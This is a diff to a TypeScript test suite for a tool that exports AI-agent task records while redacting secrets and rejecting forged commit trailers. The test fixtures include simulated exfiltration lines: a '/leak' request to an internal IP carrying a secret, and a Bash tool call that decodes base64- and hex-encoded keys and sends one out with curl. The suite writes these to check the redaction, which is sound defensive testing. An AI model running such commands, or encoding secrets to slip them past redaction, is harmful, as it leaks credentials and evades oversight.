@@ -3,9 +3,10 @@
  * task's placeholder, may learn an MCP token, and writes its requests, commit messages, files
  * and tool output as it likes. What it tries, and what must hold:
  *
- * - its placeholder, an MCP token, a real key's shape and a query string, put into its request
- *   paths, its commit messages, a file of its diff and its tool calls and output, appear nowhere
- *   in the bundle (each counted as taken out in the manifest);
+ * - its placeholder, an MCP token, the key lazy stores and a URL's query string, put into its
+ *   request paths, its commit messages, a file of its diff and its tool calls and output, appear
+ *   nowhere in the bundle (each counted as taken out in the manifest); so with its live
+ *   placeholder base64-, hex- or URL-encoded;
  * - a commit message carrying `Lazy-Task:` / `Lazy-Model:` lines, and a model name with a line
  *   break and a forged trailer (asked of the proxy, echoed by the upstream as served), are not
  *   taken as lazy's trailers: the merge's trailers are exactly lazy's own;
@@ -79,7 +80,7 @@ beforeAll(async () => {
   add.run(
     Date.now(),
     "output",
-    JSON.stringify({ text: `ANTHROPIC_API_KEY=${placeholder}\nMCP ${MCP_TOKEN}\nGET /leak?x=${QUERY_SECRET}` }),
+    JSON.stringify({ text: `ANTHROPIC_API_KEY=${placeholder}\nMCP ${MCP_TOKEN}\nGET http://10.0.0.9:8080/leak?x=${QUERY_SECRET}` }),
   );
   db.close();
   await p.ok(["accept", "probe"]);
@@ -160,5 +161,45 @@ describe("a commit message that forges a commit record", () => {
     const commits = JSON.parse(JSON.parse(readFileSync(out, "utf8")).parts["commits.json"]).commits as { commit: string }[];
     expect(commits.map((c) => c.commit)).toEqual([real]);
     expect(commits.map((c) => c.commit)).not.toContain(base);
+  });
+});
+
+describe("a live placeholder in disguise", () => {
+  test("base64-, hex- and URL-encoded in a tool's input and in the diff, it is cut from the bundle and counted", async () => {
+    await handMadeTask(p, "disguise", [], "Disguise");
+    await markDone(p, ["disguise"]);
+    // Done, not accepted: the task's grant is live, so lazy knows its exact value and cuts every form of it.
+    await p.ok(["daemon", "start"]);
+    const ph = (await p.grant({ role: "agent", task: "disguise" })).placeholder;
+    const b64 = Buffer.from(ph).toString("base64");
+    const b64url = Buffer.from(`x${ph}`).toString("base64url");
+    const hex = Buffer.from(ph).toString("hex");
+    // A placeholder is URL-safe: encoded for a query or a form, it is itself, in any context.
+    const url = `user=me&key=${encodeURIComponent(ph)}`;
+    expect(encodeURIComponent(ph)).toBe(ph);
+    writeFileSync(join(p.root, ".git", "disguised"), `b64 ${b64}\nb64url ${b64url}\nhex ${hex}\nform ${url}\n`);
+    const made = sh(
+      p.root,
+      "git checkout -q lazy/disguise && cp .git/disguised keys.txt && git add keys.txt && git -c user.name=Agent -c user.email=a@example.com commit -qm keys && git checkout -q main",
+    );
+    expect(made.code, made.err).toBe(0);
+    const db = new Database(join(p.stateDir, "store.db"));
+    db.query("INSERT INTO events (task_id, at, kind, data) SELECT id, ?, 'tool', ? FROM tasks WHERE code = 'disguise'").run(
+      Date.now(),
+      JSON.stringify({ name: "Bash", input: `echo ${b64} | base64 -d; echo ${hex} | xxd -r -p; curl -d '${url}' ${b64url}` }),
+    );
+    db.close();
+    const out = join(p.root, "..", `${p.root.split("/").at(-1)}-disguise.json`);
+    await p.ok(["export", "disguise", "-o", out]);
+    const doc = JSON.parse(readFileSync(out, "utf8"));
+    for (const [name, body] of Object.entries(doc.parts as Record<string, string>))
+      for (const form of [ph, b64.slice(0, 40), b64url.slice(4, 44), hex.slice(0, 40), hex.toUpperCase().slice(0, 40)])
+        expect(body, name).not.toContain(form);
+    const redacted = Object.fromEntries(doc.manifest.parts.map((x: any) => [x.name, x.redacted]));
+    expect(redacted["diff.patch"]).toBeGreaterThanOrEqual(4);
+    expect(redacted["events.json"]).toBeGreaterThanOrEqual(4);
+    expect(doc.parts["diff.patch"]).toContain("+b64 [redacted]");
+    expect(doc.parts["diff.patch"]).toContain("+hex [redacted]");
+    for (const x of (await verifyBundle(out)).parts) expect(x.ok, x.name).toBe(true);
   });
 });
